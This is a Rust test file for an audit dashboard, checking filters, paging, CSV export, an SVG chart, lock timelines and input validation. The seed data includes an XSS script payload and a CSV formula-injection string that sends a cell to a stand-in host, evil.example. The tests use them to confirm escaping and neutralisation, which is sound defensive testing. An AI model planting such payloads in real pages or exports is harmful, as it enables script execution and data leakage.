//! The dashboard over a seeded database: filters, order, pages, CSV, chart, timeline,
//! forced releases, JSON, and escaping.

use std::time::{Duration, SystemTime};

use axum::Router;
use deadpool_postgres::Pool;
use http::StatusCode;
use palisade_audit::{
    insert_fence_reset, insert_force_release, insert_lock_events, insert_writes, ClusterId,
    FenceReset, Finding, ForceRelease, Labels, LockEvent, LockEventKind, Outcome, WriteRecord,
};
use palisade_fence::{FencingToken, Revision};
use serde_json::Value;

use crate::common::{get, migrated_db};

pub(crate) const EVIL: &str = "<script>alert(1)</script>";
pub(crate) const KEY: &str = "/palisade/shop/orders/42";

pub(crate) fn tok(rev: u64) -> FencingToken {
    FencingToken::from_u64((1 << 48) + rev).unwrap()
}

fn hours_ago(now: SystemTime, h: u64, extra_secs: u64) -> SystemTime {
    now - Duration::from_secs(h * 3600 + extra_secs)
}

/// Writes: 12 unprotected (2 to the evil resource), plus admitted and rejected ones the
/// views must leave out; a lock timeline for `KEY` with a forced release; a second force.
/// Returns the unprotected rows, newest first.
pub(crate) async fn seed(pool: &Pool, now: SystemTime) -> Vec<WriteRecord> {
    let client = pool.get().await.unwrap();
    let mut unprotected = Vec::new();
    // (hours ago, resource, service, namespace, class, caller)
    type Spec<'a> = (u64, &'a str, &'a str, &'a str, &'a str, Option<&'a str>);
    let specs: [Spec<'_>; 12] = [
        (
            0,
            "/legacy/report",
            "reports",
            "shop",
            "legacy",
            Some("spiffe://td/batch"),
        ),
        (
            0,
            EVIL,
            "reports",
            "shop",
            "legacy",
            Some("spiffe://td/batch"),
        ),
        (1, "/legacy/report", "reports", "shop", "legacy", None),
        (
            1,
            "/legacy/ledger",
            "billing",
            "money",
            "ledger",
            Some("spiffe://td/billing"),
        ),
        (
            1,
            "/legacy/ledger",
            "billing",
            "money",
            "ledger",
            Some("spiffe://td/billing"),
        ),
        (
            2,
            "/legacy/ledger",
            "billing",
            "money",
            "ledger",
            Some("spiffe://td/cron"),
        ),
        (3, EVIL, "reports", "shop", "legacy", None),
        (
            3,
            "/legacy/report",
            "reports",
            "shop",
            "legacy",
            Some("spiffe://td/batch"),
        ),
        (
            5,
            "/legacy/report",
            "reports",
            "shop",
            "legacy",
            Some("spiffe://td/batch"),
        ),
        (
            5,
            "/legacy/ledger",
            "billing",
            "money",
            "ledger",
            Some("spiffe://td/billing"),
        ),
        (5, "/legacy/ledger", "billing", "money", "ledger", None),
        (30, "/legacy/old", "reports", "shop", "legacy", None),
    ];
    for (i, (h, resource, service, ns, class, caller)) in specs.iter().enumerate() {
        let mut r = WriteRecord::new(
            *service,
            *resource,
            "PUT",
            Outcome::Unprotected,
            Finding::MissingToken,
            hours_ago(now, *h, 60 + i as u64),
        );
        r.labels = Labels::new(*ns, *class);
        r.caller = caller.map(str::to_owned);
        if i == 3 {
            r.token = Some(tok(7));
            r.highest = Some(tok(9));
            r.finding = Some(Finding::Stale);
        }
        unprotected.push(r);
    }
    let mut others = Vec::new();
    for i in 0..5 {
        let mut a = WriteRecord::new(
            "reports",
            EVIL,
            "PUT",
            Outcome::Admitted,
            Finding::Current,
            hours_ago(now, 0, 10 + i),
        );
        a.token = Some(tok(100 + i));
        others.push(a);
        others.push(WriteRecord::new(
            "reports",
            "/legacy/report",
            "PUT",
            Outcome::Rejected,
            Finding::MissingToken,
            hours_ago(now, 0, 20 + i),
        ));
    }
    others.push(WriteRecord::dropped("reports", 3));
    insert_writes(&**client, &unprotected).await.unwrap();
    insert_writes(&**client, &others).await.unwrap();

    let cluster = ClusterId(0x8e9e_05c5_2164_694d);
    let ev =
        |rev: u64, seq: u32, kind: LockEventKind, holder: &str, token: Option<FencingToken>| {
            let mut e = LockEvent::new(cluster, Revision::new(rev), kind, KEY);
            e.seq = seq;
            e.spiffe_id = Some(holder.to_owned());
            e.token = token;
            e.namespace = Some("shop".into());
            e.class = Some("orders".into());
            e
        };
    let events = [
        ev(
            100,
            0,
            LockEventKind::Grant,
            "spiffe://td/worker-a",
            Some(tok(100)),
        ),
        ev(
            140,
            0,
            LockEventKind::Release,
            "spiffe://td/worker-a",
            Some(tok(100)),
        ),
        ev(
            150,
            0,
            LockEventKind::Grant,
            "spiffe://td/worker-b",
            Some(tok(150)),
        ),
        ev(
            190,
            1,
            LockEventKind::Expire,
            "spiffe://td/worker-b",
            Some(tok(150)),
        ),
        ev(200, 0, LockEventKind::Grant, EVIL, Some(tok(200))),
        ev(260, 0, LockEventKind::Force, EVIL, Some(tok(200))),
    ];
    insert_lock_events(&**client, &events).await.unwrap();
    insert_lock_events(
        &**client,
        &[LockEvent::gap(
            cluster,
            Revision::new(300),
            Revision::new(420),
        )],
    )
    .await
    .unwrap();
    let force = ForceRelease::new(
        "fr-7f3a",
        cluster,
        Revision::new(260),
        KEY,
        "spiffe://td/oncall-alice",
        "spiffe://td/lead-bob",
        format!("holder wedged in GC pause {EVIL}"),
        true,
        hours_ago(now, 2, 0),
    );
    insert_force_release(&**client, &force).await.unwrap();
    let other = ForceRelease::new(
        "fr-0001",
        cluster,
        Revision::new(90),
        "/palisade/shop/carts/9",
        "carol",
        "dave",
        "stuck batch",
        false,
        hours_ago(now, 20, 0),
    );
    insert_force_release(&**client, &other).await.unwrap();
    unprotected.sort_by_key(|r| std::cmp::Reverse(r.at));
    unprotected
}

async fn seeded() -> (palisade_testkit::TestDb, Router, Vec<WriteRecord>) {
    let (db, pool) = migrated_db().await;
    let rows = seed(&pool, SystemTime::now()).await;
    (db, palisade_audit::dashboard::router(pool), rows)
}

fn json(body: &str) -> Value {
    serde_json::from_str(body).unwrap()
}

fn resources(page: &Value) -> Vec<String> {
    page["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["resource"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn unprotected_writes_newest_first_filtered_and_paged() {
    let (_db, app, rows) = seeded().await;
    let all = json(&get(&app, "/api/unprotected").await.body);
    let expected: Vec<String> = rows.iter().map(|r| r.resource.clone().unwrap()).collect();
    assert_eq!(
        resources(&all),
        expected,
        "every unprotected row, newest first, nothing else"
    );
    assert_eq!(all["next"], Value::Null);
    let first = &all["rows"][0];
    assert_eq!(
        first["at"].as_str().unwrap(),
        humantime::format_rfc3339_seconds(rows[0].at).to_string()
    );
    let stale = all["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["finding"] == "stale")
        .unwrap();
    assert_eq!(
        (stale["token"].as_str(), stale["highest"].as_str()),
        (Some(&*tok(7).to_string()), Some(&*tok(9).to_string()))
    );

    let n = |q: &str| {
        let app = app.clone();
        let q = q.to_owned();
        async move {
            json(&get(&app, &format!("/api/unprotected?{q}")).await.body)["rows"]
                .as_array()
                .unwrap()
                .len()
        }
    };
    assert_eq!(n("service=billing").await, 5);
    assert_eq!(n("namespace=money&class=ledger").await, 5);
    assert_eq!(n("namespace=shop&class=ledger").await, 0);
    assert_eq!(n("resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await, 2);
    assert_eq!(n("caller=spiffe%3A%2F%2Ftd%2Fbatch").await, 4);
    assert_eq!(n("service=").await, 12, "an empty filter means any");
    let from =
        humantime::format_rfc3339_seconds(SystemTime::now() - Duration::from_secs(2 * 3600 + 1800));
    assert_eq!(n(&format!("from={from}")).await, 6, "the last 2.5 hours");
    assert_eq!(n(&format!("to={from}")).await, 6, "before that");

    // Pages of 5 cover every row once, in order.
    let mut seen = Vec::new();
    let mut uri = "/api/unprotected?limit=5".to_owned();
    loop {
        let page = json(&get(&app, &uri).await.body);
        seen.extend(resources(&page));
        match page["next"].as_str() {
            Some(next) => uri = format!("/api/unprotected?limit=5&before={next}"),
            None => break,
        }
    }
    assert_eq!(seen, expected);

    let bad = get(&app, "/api/unprotected?from=yesterday").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("from"), "{}", bad.body);
    assert_eq!(
        get(&app, "/api/unprotected?before=nope").await.status,
        StatusCode::BAD_REQUEST
    );
}

#[tokio::test]
async fn csv_export_holds_exactly_the_filtered_rows() {
    let (_db, app, rows) = seeded().await;
    let r = get(&app, "/unprotected.csv?service=reports").await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.content_type, "text/csv; charset=utf-8");
    let mut reader = csv::Reader::from_reader(r.body.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(&header[..4], ["at", "service", "resource", "method"]);
    let got: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let expected: Vec<&WriteRecord> = rows.iter().filter(|r| r.service == "reports").collect();
    assert_eq!(got.len(), expected.len());
    for (line, r) in got.iter().zip(&expected) {
        assert_eq!(line[0], humantime::format_rfc3339_seconds(r.at).to_string());
        assert_eq!(
            line[2],
            *r.resource.as_ref().unwrap(),
            "the resource verbatim, script tags and all"
        );
        assert_eq!(line[8], r.caller.clone().unwrap_or_default());
        assert_eq!(line[11], r.id.to_string());
    }
    assert!(got.iter().any(|l| l[2] == EVIL));
}

#[tokio::test]
async fn csv_cells_that_would_be_formulas_are_inert_and_json_stays_verbatim() {
    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1)";
    let (_db, pool) = migrated_db().await;
    let mut r = WriteRecord::new(
        "-svc",
        FORMULA,
        "PUT",
        Outcome::Unprotected,
        Finding::MissingToken,
        SystemTime::now(),
    );
    r.caller = Some("@caller".into());
    insert_writes(&**pool.get().await.unwrap(), &[r])
        .await
        .unwrap();
    let app = palisade_audit::dashboard::router(pool);

    let csv_body = get(&app, "/unprotected.csv").await.body;
    let mut reader = csv::Reader::from_reader(csv_body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][1], "'-svc");
    assert_eq!(&rows[0][2], format!("'{FORMULA}"));
    assert_eq!(&rows[0][8], "'@caller");
    let api = json(&get(&app, "/api/unprotected").await.body);
    assert_eq!(
        resources(&api),
        [FORMULA],
        "the JSON API is not a spreadsheet"
    );
}

#[tokio::test]
async fn the_hourly_chart_counts_each_hour() {
    let (_db, app, rows) = seeded().await;
    let hourly = json(&get(&app, "/api/unprotected/hourly").await.body);
    let counts: Vec<i64> = hourly["hours"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["count"].as_i64().unwrap())
        .collect();
    assert_eq!(
        counts.len(),
        25,
        "the last 24 hours, partial hours at both ends"
    );
    assert_eq!(
        counts.iter().sum::<i64>(),
        11,
        "all but the one 30 hours ago"
    );
    // Each bar counts the seeded rows of its hour.
    for h in hourly["hours"].as_array().unwrap() {
        let start = humantime::parse_rfc3339(h["hour"].as_str().unwrap()).unwrap();
        let end = start + Duration::from_secs(3600);
        let expected = rows.iter().filter(|r| r.at >= start && r.at < end).count() as i64;
        assert_eq!(h["count"].as_i64().unwrap(), expected, "{}", h["hour"]);
    }
    assert!(counts.iter().filter(|n| **n > 0).count() >= 4);
    let svg = get(&app, "/unprotected/chart.svg?service=billing").await;
    assert_eq!(svg.content_type, "image/svg+xml; charset=utf-8");
    assert!(svg
        .body
        .starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
    assert_eq!(svg.body.matches("class=\"bar\"").count(), 25);
    assert!(
        svg.body.contains("service billing (5 in 25 h)"),
        "{}",
        svg.body
    );
}

/// Every filter narrows the hourly counts exactly as it narrows the rows, over windows
/// whose ends fall inside an hour (partial hours from `write_event`, whole hours from the
/// hourly counts) and over windows inside one hour.
#[tokio::test]
async fn every_filter_narrows_the_hourly_counts_as_it_narrows_the_rows() {
    let (_db, pool) = migrated_db().await;
    let now = SystemTime::now();
    let rows = seed(&pool, now).await;
    let app = palisade_audit::dashboard::router(pool);
    let fmt = |t: SystemTime| humantime::format_rfc3339_seconds(t).to_string();
    // (query, what a row must match)
    type Pred = Box<dyn Fn(&WriteRecord) -> bool>;
    let s = |v: &'static str| Some(v.to_owned());
    let filters: Vec<(&str, Pred)> = vec![
        ("", Box::new(|_| true)),
        (
            "namespace=shop",
            Box::new(move |r| r.labels.namespace == s("shop")),
        ),
        (
            "class=ledger",
            Box::new(move |r| r.labels.class == s("ledger")),
        ),
        ("service=billing", Box::new(move |r| r.service == "billing")),
        (
            "caller=spiffe%3A%2F%2Ftd%2Fbatch",
            Box::new(move |r| r.caller == s("spiffe://td/batch")),
        ),
        (
            "resource=%2Flegacy%2Fledger",
            Box::new(move |r| r.resource == s("/legacy/ledger")),
        ),
        (
            "namespace=money&caller=spiffe%3A%2F%2Ftd%2Fbilling",
            Box::new(move |r| {
                r.labels.namespace == s("money") && r.caller == s("spiffe://td/billing")
            }),
        ),
        (
            "service=reports&resource=%2Flegacy%2Freport",
            Box::new(move |r| r.service == "reports" && r.resource == s("/legacy/report")),
        ),
    ];
    let windows = [
        (None, None),
        (
            Some(now - Duration::from_secs(5 * 3600 + 1234)),
            Some(now - Duration::from_secs(1800)),
        ),
        (Some(now - Duration::from_secs(40 * 3600)), None),
        (
            Some(now - Duration::from_secs(3600 + 600)),
            Some(now - Duration::from_secs(3600 - 600)),
        ),
    ];
    let mut totals = Vec::new();
    for (from, to) in windows {
        for (q, pred) in &filters {
            let mut uri = format!("/api/unprotected/hourly?{q}");
            if let Some(t) = from {
                uri.push_str(&format!("&from={}", fmt(t)));
            }
            if let Some(t) = to {
                uri.push_str(&format!("&to={}", fmt(t)));
            }
            let hourly = json(&get(&app, &uri).await.body);
            // The window as the server saw it: whole seconds, `to` by default the time of the request.
            let lo = from.map(|t| humantime::parse_rfc3339(&fmt(t)).unwrap());
            let hi = to
                .map(|t| humantime::parse_rfc3339(&fmt(t)).unwrap())
                .unwrap_or_else(SystemTime::now);
            let lo = lo.unwrap_or(hi - Duration::from_secs(24 * 3600));
            let mut total = 0;
            for h in hourly["hours"].as_array().unwrap() {
                let start = humantime::parse_rfc3339(h["hour"].as_str().unwrap()).unwrap();
                let end = start + Duration::from_secs(3600);
                let expected = rows
                    .iter()
                    .filter(|r| r.at >= start.max(lo) && r.at < end.min(hi) && pred(r))
                    .count() as i64;
                assert_eq!(
                    h["count"].as_i64().unwrap(),
                    expected,
                    "{uri}: hour {}",
                    h["hour"]
                );
                total += expected;
            }
            totals.push((uri, total));
        }
    }
    // The filters do narrow: in the 24 hours, each selects some rows but not all 11.
    for (uri, total) in &totals[1..filters.len()] {
        assert!(*total > 0 && *total < 11, "{uri}: {total}");
    }
    assert_eq!(totals[0].1, 11);
    assert_eq!(totals[2 * filters.len()].1, 12, "40 hours hold every row");
}

#[tokio::test]
async fn script_in_a_resource_is_escaped_in_html_and_svg_and_verbatim_in_json() {
    let (_db, app, _) = seeded().await;
    let page = get(&app, "/unprotected").await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.content_type, "text/html; charset=utf-8");
    assert!(!page.body.contains(EVIL));
    assert!(!page.body.contains("<script"), "no script element at all");
    assert_eq!(
        page.body
            .matches("&lt;script&gt;alert(1)&lt;/script&gt;")
            .count(),
        2
    );
    // Filtered by that resource: the value goes back into the form field and the chart
    // caption, escaped both times.
    let filtered = get(
        &app,
        "/unprotected?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    )
    .await;
    assert!(!filtered.body.contains("<script"));
    assert!(filtered
        .body
        .contains("value=\"&lt;script&gt;alert(1)&lt;/script&gt;\""));
    assert!(filtered
        .body
        .contains("resource &lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(filtered.body.contains("Export CSV"));
    assert!(filtered
        .body
        .contains("href=\"/unprotected.csv?resource=%3Cscript%3Ealert%281%29%3C%2Fscript%3E\""));
    let svg = get(
        &app,
        "/unprotected/chart.svg?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    )
    .await;
    assert!(!svg.body.contains("<script"));
    assert!(svg
        .body
        .contains("resource &lt;script&gt;alert(1)&lt;/script&gt; (2 in 25 h)"));
    let api = json(
        &get(
            &app,
            "/api/unprotected?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        )
        .await
        .body,
    );
    assert_eq!(resources(&api), [EVIL, EVIL]);
    // The holder and the reason on the lock pages.
    for uri in [format!("/locks?key={}", KEY), "/force-releases".to_owned()] {
        let page = get(&app, &uri).await;
        assert!(!page.body.contains("<script"), "{uri}");
        assert!(
            page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{uri}"
        );
    }
}

#[tokio::test]
async fn lock_timeline_and_force_releases_show_tokens_and_both_people() {
    let (_db, app, _) = seeded().await;
    let timeline = json(&get(&app, &format!("/api/locks?key={KEY}")).await.body);
    let events: Vec<(u64, &str, Option<&str>)> = timeline["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["revision"].as_u64().unwrap(),
                e["type"].as_str().unwrap(),
                e["token"].as_str(),
            )
        })
        .collect();
    let t = |r| tok(r).to_string();
    let (t100, t150, t200) = (t(100), t(150), t(200));
    assert_eq!(
        events,
        [
            (300, "gap", None),
            (260, "force", Some(&*t200)),
            (200, "grant", Some(&*t200)),
            (190, "expire", Some(&*t150)),
            (150, "grant", Some(&*t150)),
            (140, "release", Some(&*t100)),
            (100, "grant", Some(&*t100)),
        ],
        "newest first; the gap of the key's cluster where it cuts the history"
    );
    assert_eq!(
        (
            &timeline["events"][0]["gap_from"],
            &timeline["events"][0]["gap_to"]
        ),
        (&Value::from(300), &Value::from(420))
    );
    let force = &timeline["events"][1]["force"];
    assert_eq!(force["requester"], "spiffe://td/oncall-alice");
    assert_eq!(force["approver"], "spiffe://td/lead-bob");
    assert_eq!(force["cluster_id"], "8e9e05c52164694d");
    assert_eq!(timeline["events"][2]["force"], Value::Null);
    let page = get(&app, &format!("/locks?key={KEY}")).await.body;
    for needle in [
        "kind-force",
        "kind-expire",
        "kind-release",
        &t200,
        "spiffe://td/oncall-alice / spiffe://td/lead-bob",
    ] {
        assert!(page.contains(needle), "{needle}");
    }
    assert!(get(&app, "/locks?key=/nothing")
        .await
        .body
        .contains("No events for"));

    let forces = json(&get(&app, "/api/force-releases").await.body);
    let list: Vec<(&str, &str, &str, bool)> = forces["force_releases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["request_id"].as_str().unwrap(),
                f["requester"].as_str().unwrap(),
                f["approver"].as_str().unwrap(),
                f["class_was_fenced"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        list,
        [
            (
                "fr-7f3a",
                "spiffe://td/oncall-alice",
                "spiffe://td/lead-bob",
                true
            ),
            ("fr-0001", "carol", "dave", false)
        ]
    );
    assert_eq!(
        forces["force_releases"][0]["reason"],
        format!("holder wedged in GC pause {EVIL}")
    );
    let page = get(&app, "/force-releases").await.body;
    assert!(
        page.contains("stuck batch")
            && page.contains("no (advisory)")
            && page.contains("href=\"/locks?key=%2Fpalisade%2Fshop%2Forders%2F42\"")
    );
}

/// The forced releases page lists mark resets, newest first: the lock each was checked
/// against with its floor, or "lock unknown", the database role, the reason (escaped).
#[tokio::test]
async fn the_force_releases_page_lists_mark_resets_with_their_lock_or_lock_unknown() {
    let (_db, pool) = migrated_db().await;
    let app = palisade_audit::dashboard::router(pool.clone());
    let page = get(&app, "/force-releases").await.body;
    assert!(page.contains("No mark resets."), "{page}");

    let client = pool.get().await.unwrap();
    let now = SystemTime::now();
    let mut unknown = FenceReset::new("orders/7", tok(900), tok(50), EVIL, "ops_resetter");
    unknown.at = now - Duration::from_secs(60);
    let mut guarded = FenceReset::new(
        "orders/1",
        tok(800),
        tok(120),
        "poisoned by an example token",
        "billing_admin",
    )
    .with_lock("shop/orders/1", tok(120));
    guarded.at = now;
    for r in [&unknown, &guarded] {
        assert!(insert_fence_reset(&**client, r).await.unwrap());
    }

    let page = get(&app, "/force-releases").await.body;
    assert!(!page.contains("No mark resets."), "{page}");
    let table = &page[page
        .find("<table class=\"resets\"")
        .expect("a resets table")..];
    let rows: Vec<&str> = table.split("<tr>").skip(2).collect();
    assert_eq!(rows.len(), 2, "{table}");
    let (t120, t800, t900, t50) = (tok(120), tok(800), tok(900), tok(50));
    for needle in [
        "orders/1".to_owned(),
        t800.to_string(),
        format!("lock shop/orders/1, floor {t120}"),
        "billing_admin".to_owned(),
        "poisoned by an example token".to_owned(),
    ] {
        assert!(
            rows[0].contains(&needle),
            "newest first, {needle}: {}",
            rows[0]
        );
    }
    for needle in [
        "orders/7".to_owned(),
        t900.to_string(),
        t50.to_string(),
        "lock unknown".to_owned(),
        "ops_resetter".to_owned(),
        "&lt;script&gt;".to_owned(),
    ] {
        assert!(rows[1].contains(&needle), "{needle}: {}", rows[1]);
    }
    assert!(!rows[1].contains("floor"), "{}", rows[1]);
    assert!(!page.contains(EVIL), "the reason is escaped");
}

#[tokio::test]
async fn an_unreachable_database_is_a_503_not_a_hang() {
    let pool = palisade_audit::pool(
        "host=127.0.0.1 port=1 user=postgres dbname=none connect_timeout=2",
        1,
    )
    .unwrap();
    let app = palisade_audit::dashboard::router(pool);
    let r = get(&app, "/api/unprotected").await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{}", r.body);
    assert_eq!(get(&app, "/").await.status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(
        get(&app, "/refused").await.status,
        StatusCode::SERVICE_UNAVAILABLE
    );
}

#[tokio::test]
async fn a_control_character_in_a_filter_or_key_is_a_400_naming_it() {
    let (_db, app, _) = seeded().await;
    let views = [
        "/unprotected",
        "/unprotected.csv",
        "/unprotected/chart.svg",
        "/api/unprotected",
        "/api/unprotected/hourly",
        "/refused",
        "/api/refused",
        "/",
        "/api/overview",
    ];
    for view in views {
        for field in ["namespace", "class", "resource", "service", "caller"] {
            for (value, cause) in [("a%00b", "U+0000 at byte 1"), ("x%1By", "U+001B at byte 1")] {
                let r = get(&app, &format!("{view}?{field}={value}")).await;
                assert_eq!(
                    r.status,
                    StatusCode::BAD_REQUEST,
                    "{view} {field}: {}",
                    r.body
                );
                assert!(
                    r.body
                        .contains(&format!("{field} has the control character {cause}")),
                    "{view} {field}: {}",
                    r.body
                );
            }
        }
        let r = get(
            &app,
            &format!("{view}?from=2026-11-30T10:00:00Z&to=2026-11-30T09:00:00Z"),
        )
        .await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{view}: {}", r.body);
        assert!(r.body.contains("from: not before to"), "{view}: {}", r.body);
        // An empty window: `from` equal to `to`, or after now with no `to`.
        for (q, end) in [
            ("from=2026-11-30T10:00:00Z&to=2026-11-30T10:00:00Z", "to"),
            ("from=9999-12-31T23:59:59Z", "now"),
        ] {
            let r = get(&app, &format!("{view}?{q}")).await;
            assert_eq!(r.status, StatusCode::BAD_REQUEST, "{view}?{q}: {}", r.body);
            assert!(
                r.body.contains(&format!("from: not before {end}")),
                "{view}?{q}: {}",
                r.body
            );
        }
        let r = get(
            &app,
            &format!("{view}?from=2026-11-30T10:00:00Z&to=2026-11-30T10:00:01Z"),
        )
        .await;
        assert!(r.status.is_success(), "{view}: {}", r.body);
        let long = "x".repeat(2049);
        let r = get(&app, &format!("{view}?service={long}")).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{view}: {}", r.body);
        assert!(
            r.body.contains("service is 2049 bytes, more than 2048"),
            "{}",
            r.body
        );
    }
    for view in views
        .iter()
        .chain(&["/locks", "/api/locks", "/force-releases"])
    {
        // Not UTF-8 once decoded: refused, not read as U+FFFD.
        for q in ["resource=%FF", "key=a%C3", "namespace=ok&caller=%80"] {
            let r = get(&app, &format!("{view}?{q}")).await;
            assert_eq!(r.status, StatusCode::BAD_REQUEST, "{view}?{q}: {}", r.body);
            assert!(r.body.contains("is not UTF-8"), "{view}?{q}: {}", r.body);
        }
    }
    for view in ["/locks", "/api/locks"] {
        let r = get(&app, &format!("{view}?key=%2Fpalisade%00")).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{view}: {}", r.body);
        assert!(
            r.body.contains("lock key has a control character"),
            "{view}: {}",
            r.body
        );
        let long = "k".repeat(513);
        let r = get(&app, &format!("{view}?key={long}")).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{view}: {}", r.body);
        assert!(
            r.body.contains("lock key is longer than 512 bytes"),
            "{}",
            r.body
        );
    }
    // Text the rule allows still filters: non-ASCII matches nothing here, surrounding
    // whitespace is trimmed as before.
    let r = get(&app, "/api/unprotected?service=r%C3%A9ports").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(json(&r.body)["rows"].as_array().unwrap().len(), 0);
    let r = get(&app, "/api/unprotected?service=%20billing%0A").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(json(&r.body)["rows"].as_array().unwrap().len(), 5);
    let r = get(&app, &format!("/api/locks?key={}", KEY)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(!json(&r.body)["events"].as_array().unwrap().is_empty());
}
